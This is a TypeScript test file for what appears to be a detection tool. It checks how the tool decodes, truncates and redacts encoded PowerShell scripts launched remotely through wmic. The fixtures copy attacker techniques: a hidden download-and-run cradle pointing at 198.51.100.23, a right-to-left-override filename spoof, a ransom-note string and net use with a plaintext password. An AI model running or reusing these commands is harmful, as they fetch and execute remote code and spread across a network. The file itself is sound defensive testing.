/**
 * What an analyst sees of a long -EncodedCommand script: the cap's exact edge, a cut that never
 * splits a character or a `[U+XXXX]` escape, line breaks, and passwords past the cap.
 * Scripts are modelled on Atomic Red Team T1059.001 (a TLS-forcing download cradle, then WMI
 * process recon) and on MITRE ATT&CK T1036.002 (a Right-to-Left Override hiding an extension).
 */
import { describe, expect, it } from 'vitest';
import { DECODED_SCRIPT_MAX } from '../../lambda/detect/decoded-script.js';
import { encodePs, wmic } from './helpers.js';

const HEADER = '[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n';
const RECON = 'Get-CimInstance Win32_Process | Select-Object Name,ProcessId,CommandLine\n';
/** The first `n` characters of a plain-ASCII script (no control, no surrogate, `[` only in its first line). */
const script = (n: number): string => `${HEADER}${RECON.repeat(Math.ceil(n / RECON.length))}`.slice(0, n);
const marker = (total: number): string => `…[decoded script truncated, ${total} chars in total]`;
const shown = (text: string): string | null => wmic(`wmic /node:FS01 process call create "powershell -nop -w hidden -enc ${encodePs(text)}"`).decodedScript;

describe('the decoded script cap', () => {
  it('shows a script of exactly the cap whole, and cuts one character longer at the cap with the marker', () => {
    expect(DECODED_SCRIPT_MAX).toBe(1000);
    expect(shown(script(1000))).toBe(script(1000));
    expect(shown(script(1001))).toBe(`${script(1000)}${marker(1001)}`);
    expect(shown(script(1256))).toBe(`${script(1000)}${marker(1256)}`);
    expect(shown(script(4000))).toBe(`${script(1000)}${marker(4000)}`);
  });

  // 🔒 (U+1F512, a ransom note banner), and the first and last high surrogates: U+10000 and U+10FFFD
  it.each(['\u{1F512}', '\u{10000}', '\u{10FFFD}'])('never splits the pair of %s at the cut', (ch) => {
    const note = ' Your files are encrypted';
    // the pair straddles the cut: it goes whole
    expect(shown(`${script(999)}${ch}${note}`)).toBe(`${script(999)}${marker(1001 + note.length)}`);
    // the pair ends at the cut: it stays whole
    expect(shown(`${script(998)}${ch}${note}`)).toBe(`${script(998)}${ch}${marker(1000 + note.length)}`);
  });

  it('never splits a [U+XXXX] escape at the cut, and keeps one that ends at the cut', () => {
    const spoof = '\u202Egnp.exe -WindowStyle Hidden';
    for (let inside = 1; inside <= 7; inside++) {
      const before = script(DECODED_SCRIPT_MAX - inside);
      expect(shown(`${before}${spoof}`), `${inside} characters of the escape before the cut`).toBe(`${before}${marker(before.length + spoof.length)}`);
    }
    const before = script(DECODED_SCRIPT_MAX - 8);
    expect(shown(`${before}${spoof}`)).toBe(`${before}[U+202E]${marker(before.length + spoof.length)}`);
  });

  it('shows a lone carriage return as a line break, as it does CRLF', () => {
    // a bare CR returns the cursor, so the next line overwrites the first in a terminal
    expect(shown('Invoke-WebRequest http://198.51.100.23/a.ps1 -OutFile a.ps1\rWrite-Host "update check"\r\n.\\a.ps1'))
      .toBe('Invoke-WebRequest http://198.51.100.23/a.ps1 -OutFile a.ps1\nWrite-Host "update check"\n.\\a.ps1');
  });
});

describe('passwords in a script longer than the cap', () => {
  // the net use form of redaction.test.ts (Microsoft's net use documentation): one share per server
  const netUse = (n: number): string => `net use \\\\fs${n}\\c$ /user:corp\\adm Winter2025!Sales\n`;
  const remote = (text: string): string => `wmic /node:FS01 process call create "powershell -nop -enc ${encodePs(text)}"`;

  it('withholds the base64 of a script that types a password past the cap, and hides the password everywhere', () => {
    const text = `${script(1300)}\n${netUse(2)}`;
    const a = wmic(remote(text), { actor_process_command_line: 'cmd.exe /c "echo Winter2025!Sales| clip"' });
    expect(a.decodedScript).toBe(`${script(1000)}${marker(text.length)}`);
    expect(a.commandLine).toContain('[encoded command withheld: it contains a password]');
    expect(a.remoteCommand).toBe('powershell -nop -enc [encoded command withheld: it contains a password]');
    expect(a.parentCommandLine).toBe('cmd.exe /c "echo ***| clip"');
    const everything = JSON.stringify(a);
    expect(everything).not.toContain(encodePs(text).slice(0, 40));
    expect(everything).not.toContain('Winter2025');
  });

  it('keeps the base64 of a long script that types no password, for the analyst to copy', () => {
    const text = script(1300);
    const a = wmic(remote(text));
    expect(a.remoteCommand).toBe(`powershell -nop -enc ${encodePs(text)}`);
    expect(a.decodedScript).toBe(`${script(1000)}${marker(1300)}`);
  });

  it('hides a password straddling the cap whole', () => {
    const a = wmic(remote(`${script(960)}\n${netUse(2)}${script(500)}`));
    expect(a.decodedScript).toContain('/user:corp\\adm ***\n');
    expect(a.decodedScript).not.toMatch(/Winter|Sales/);
  });

  it('shows a long script whole when hiding its passwords brings it under the cap', () => {
    const lines = Array.from({ length: 27 }, (_, i) => netUse(10 + i));
    const text = lines.join('');
    const hidden = lines.map((l) => l.replace('Winter2025!Sales', '***')).join('');
    expect(text.length).toBeGreaterThan(DECODED_SCRIPT_MAX + 256);
    expect(hidden.length).toBeLessThanOrEqual(DECODED_SCRIPT_MAX);
    expect(wmic(remote(text)).decodedScript).toBe(hidden);
  });
});
